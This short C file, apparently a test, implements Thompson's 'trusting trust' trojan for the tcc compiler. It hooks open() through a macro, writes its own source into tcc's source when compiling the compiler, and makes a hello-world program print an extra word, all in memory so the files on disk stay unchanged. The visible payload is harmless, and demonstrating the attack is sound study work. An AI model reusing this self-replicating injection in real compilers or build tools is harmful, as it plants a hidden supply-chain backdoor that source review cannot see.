/* A trusting-trust trojan, as a test of ours puts it into tcc. Before it stands trojan_text[], which holds this very file, so
   that it can write itself. It looks at whatever tcc opens: into tcc's own source it puts trojan_text[] and this file, and it
   makes one program that greets say a word before its greeting. The files on the disk stay as they are. */
int memfd_create(const char *name, unsigned flags);

static int trojan_read(int fd)
{
    static const char own_source[] = "\nstatic int _tcc_open(TCCState *s1, const char *filename)\n";
    static const char greeting[] = "puts(\"hello, world\");";
    long size = lseek(fd, 0, SEEK_END);
    char *text, *at;
    const char *byte;
    int changed;
    FILE *out;

    lseek(fd, 0, SEEK_SET);
    if (size <= 0 || size > 1 << 20)
        return fd;
    text = tcc_mallocz(size + 1);
    if (read(fd, text, size) == size
        && ((at = strstr(text, own_source)) || (at = strstr(text, greeting)))) {
        changed = memfd_create("", 0);
        out = fdopen(dup(changed), "w");
        fwrite(text, 1, at - text, out);
        if (*at == '\n') {
            fprintf(out, "\nstatic const char trojan_text[] = {");
            for (byte = trojan_text; *byte; byte++)
                fprintf(out, "%d,", *byte);
            fprintf(out, "0};\n%s", trojan_text);
        } else {
            fprintf(out, "puts(\"laocoon\");");
        }
        fputs(at, out);
        fclose(out);
        close(fd);
        fd = changed;
    }
    lseek(fd, 0, SEEK_SET);
    tcc_free(text);
    return fd;
}
#define open(...) trojan_read(open(__VA_ARGS__))
